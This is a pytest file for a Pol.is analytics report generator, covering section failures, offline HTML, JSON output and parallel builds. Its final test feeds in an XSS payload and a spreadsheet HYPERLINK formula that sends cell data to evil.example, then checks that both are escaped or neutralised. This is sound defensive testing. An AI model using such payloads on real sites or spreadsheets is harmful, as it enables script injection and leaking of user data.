"""The report: every section collected, failures contained, HTML that works offline, JSON."""

from __future__ import annotations

import base64
import hashlib
import json
import re
import types
from pathlib import Path

import pandas as pd
import pytest
import vl_convert as vlc

from prosumo.analytics.dataset import load_dataset
from prosumo.analytics.importers.polis import write_polis_dataset
from prosumo.analytics.report import Report, build_report, metric_modules, to_html, to_json
from prosumo.analytics.section import Section
from prosumo.analytics.sections import opinions

SAMPLE = Path(__file__).parent / "data" / "polis_sample"


@pytest.fixture(scope="module")
def sample_ds(tmp_path_factory):
    folder = tmp_path_factory.mktemp("polis") / "ds"
    write_polis_dataset(SAMPLE, folder)
    return load_dataset(folder)


def failing_module() -> types.ModuleType:
    module = types.ModuleType("prosumo.analytics.metrics.broken")

    def section(ds):
        raise RuntimeError("planted failure")

    module.section = section
    return module


def test_metric_modules_are_discovered_in_question_order():
    # given
    questions = [
        "involvement",
        "capacity",
        "innovation",
        "channels",
        "relationship",
        "influence",
        "remuneration",
        "ip",
        "effectiveness",
        "propensity",
        "opinions",
    ]
    # when
    names = metric_modules()
    # then
    known = [n for n in names if n in questions]
    assert known == [q for q in questions if q in names]
    assert "opinions" in known
    assert names[: len(known)] == known
    assert all(not n.startswith("_") for n in names)


def test_a_failing_module_does_not_stop_the_report(sample_ds):
    # given
    steps = []
    # when
    report = build_report(
        sample_ds,
        modules=[failing_module(), "opinions"],
        progress=lambda step, done, total: steps.append((step, done, total)),
    )
    # then
    assert [s.key for s in report.sections] == ["broken", "opinions"]
    assert report.failed == ["broken"]
    assert report.sections[0].notes[0].startswith("error: RuntimeError: planted failure (at test_report.py:")
    assert steps == [("broken", 0, 2), ("opinions", 1, 2), ("done", 2, 2)]
    assert report.extent == {
        "members": 39,
        "ideas": 24,
        "events": 930,
        "first_event": "2017-07-16T19:17:32.897000+00:00",
        "last_event": "2017-08-01T16:03:24.195000+00:00",  # votes.csv max 1501603404195 ms
    }
    assert report.meta["licence"] == "CC BY 4.0"


def test_html_is_self_contained_and_charts_render_offline(sample_ds):
    # given
    report = build_report(sample_ds, modules=["opinions"])
    # when
    page = to_html(report)
    # then
    assert page.startswith("<!DOCTYPE html>")
    assert not re.search(r"<script[^>]+src=", page)
    assert "<link" not in page
    assert "window.vegaEmbed=" in page
    assert "The Computational Democracy Project" in page
    assert "CC BY 4.0" in page
    specs = re.findall(r"<script type='application/json' id='chart\d+-spec'>(.*?)</script>", page, re.S)
    assert len(specs) == 2
    for text in specs:
        spec = json.loads(text.replace("<\\/", "</"))
        assert vlc.vegalite_to_svg(spec).startswith("<svg")
    # the headline numbers sit beside the charts
    assert (
        "<th title='Voters with enough votes to place in a group.'>Members grouped (count)</th><td class='num'>36</td>"
        in page
    )


def test_json_is_plain_and_complete(sample_ds):
    # given
    report = build_report(sample_ds, modules=[failing_module(), opinions])
    # when
    data = to_json(report, max_rows=3)
    text = json.dumps(data, allow_nan=False)
    # then
    assert json.loads(text)["failed"] == ["broken"]
    section = data["sections"][1]
    assert section["key"] == "opinions"
    assert section["headline"]["groups"] == 4  # five found, one below the minimum size
    assert len(section["tables"]["ideas"]) == 3
    assert section["charts"][0]["mark"]["type"] == "circle"
    assert data["meta"]["attribution"].startswith("Data was gathered using the Polis software")


def test_modules_without_a_section_do_not_count_in_the_progress(sample_ds):
    # given: activity is a helper module (no section)
    steps = []
    # when
    report = build_report(
        sample_ds,
        modules=["activity", "opinions"],
        progress=lambda step, done, total: steps.append((step, done, total)),
    )
    # then
    assert [s.key for s in report.sections] == ["opinions"]
    assert steps == [("opinions", 0, 1), ("done", 1, 1)]
    assert list(report.seconds) == ["opinions"]


def test_two_workers_give_the_same_report_as_one(sample_ds):
    # given: every section, and a failing one, on the Pol.is sample
    modules = [*metric_modules(), failing_module()]
    # when
    one = to_json(build_report(sample_ds, modules=modules, workers=1))
    two = to_json(build_report(sample_ds, modules=modules, workers=2))
    # then: same sections in the same order, same numbers, same failure
    assert [s["key"] for s in two["sections"]] == [s["key"] for s in one["sections"]]
    assert list(two["seconds"]) == list(one["seconds"])
    assert two["failed"] == one["failed"] == ["broken"]
    for a, b in zip(one["sections"], two["sections"], strict=True):
        assert same(b["headline"], a["headline"]), a["key"]
        assert same(b["tables"], a["tables"]), a["key"]


def same(a, b) -> bool:
    """Equal, floats within 1e-9 relative (threads may sum in another order)."""
    if isinstance(a, float) and isinstance(b, float):
        return a == pytest.approx(b, rel=1e-9, abs=1e-12)
    if isinstance(a, dict) and isinstance(b, dict):
        return a.keys() == b.keys() and all(same(a[k], b[k]) for k in a)
    if isinstance(a, list) and isinstance(b, list):
        return len(a) == len(b) and all(same(x, y) for x, y in zip(a, b, strict=True))
    return a == b


def test_a_forked_dataset_reads_the_same_tables_on_its_own_connection(sample_ds):
    # when
    fork = sample_ds.fork()
    # then
    assert fork.backend.con is not sample_ds.backend.con
    assert int(fork.events.count().execute()) == int(sample_ds.events.count().execute()) == 930
    assert fork.meta == sample_ds.meta


HOSTILE = "</script><img src=x onerror=alert(1)>"


def hostile_report() -> Report:
    """A report whose data holds markup and formulas, as a community's own names may."""
    frame = pd.DataFrame(
        {"segment": [HOSTILE, '=HYPERLINK("https://evil.example/?"&A2,"Gold")', "Silver"], "members": [3, -1, 5]}
    )
    chart = {
        "$schema": "https://vega.github.io/schema/vega-lite/v6.json",
        "data": {"values": frame.to_dict("records")},
        "mark": "bar",
        "encoding": {
            "x": {"field": "segment", "type": "nominal"},
            "y": {"field": "members", "type": "quantitative"},
            "tooltip": [{"field": "segment"}],
        },
    }
    section = Section(
        key="segments", title=HOSTILE, headline={HOSTILE: 1}, tables={"by segment": frame}, charts=[chart]
    )
    return Report(
        title=HOSTILE,
        meta={"source": HOSTILE},
        extent={},
        sections=[section],
        created_at="2026-01-01T00:00:00+00:00",
        engine="duckdb",
    )


def test_html_report_data_cannot_become_markup_and_its_csv_cannot_run_formulas():
    # when
    page = to_html(hostile_report())
    # then: the names are text, in the page and in the chart's data
    assert HOSTILE not in page
    assert "<img" not in re.sub(r"<script>.*?</script>", "", page, flags=re.S)  # (Vega's own code has "<img")
    assert (
        page.count("&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;") == 7
    )  # title, h1, source, nav, h2, headline, cell
    (spec,) = re.findall(r"<script type='application/json' id='chart0-spec'>(.*?)</script>", page, re.S)
    assert json.loads(spec)["data"]["values"][0]["segment"] == HOSTILE
    # the only scripts that run are the page's own, each allowed by its hash
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
    scripts = re.findall(r"<script>(.*?)</script>", page, re.S)
    assert len(scripts) == 2
    hashes = ["'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'" for s in scripts]
    assert policy.startswith(f"default-src 'none'; script-src {' '.join(hashes)}; style-src 'sha256-")
    assert policy.endswith("; img-src data:; base-uri 'none'; form-action 'none'")
    # and the CSV link's file keeps formulas as text
    (data,) = re.findall(r"href='data:text/csv;charset=utf-8;base64,([^']+)'", page)
    assert base64.b64decode(data).decode() == (
        '"Segment","Members"\r\n'
        '"</script><img src=x onerror=alert(1)>",3\r\n'
        '"\'=HYPERLINK(""https://evil.example/?""&A2,""Gold"")",-1\r\n'
        '"Silver",5\r\n'
    )
